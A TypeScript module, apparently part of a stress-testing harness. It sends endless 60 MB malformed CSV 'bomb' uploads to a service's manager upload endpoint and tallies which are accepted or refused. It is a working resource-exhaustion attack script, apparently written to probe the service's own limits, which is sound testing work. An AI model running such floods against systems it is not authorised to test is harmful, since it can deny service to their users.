import type { AttackTally } from '../load/job.ts'
import type { AttackJob } from './attack.ts'
import { giveFile } from './ask-as-manager.ts'

/** As large as the hub's own bound lets through. */
const BOMB_BYTES = 60_000_000

const HEAD = 'full_name,phone,credentials\n'

/** What is in a file that is no members' file: columns without end, a field without end, rows of nothing, one name a row. */
const FILLINGS = [',', 'a', '"', '\n', 'x\n', '"\n', ',,,,,,,\n']

/** Gives the hub files that are made to be expensive, one time after the other. */
export function sendBombs(job: AttackJob): AttackTally {
  const tally = { bombs: 0, refused: 0, taken: 0 }
  void (async () => {
    for (;;) {
      const filling = FILLINGS[tally.bombs % FILLINGS.length] ?? ''
      tally.bombs += 1
      const status = await giveFile(job, bombOf(filling)).catch(() => 0)
      if (status === 200) tally.taken += 1
      else tally.refused += 1
    }
  })()
  return tally
}

function bombOf(filling: string): Uint8Array<ArrayBuffer> {
  const bomb = new Uint8Array(BOMB_BYTES)
  Buffer.from(bomb.buffer).fill(filling)
  bomb.set(new TextEncoder().encode(HEAD))
  return bomb
}
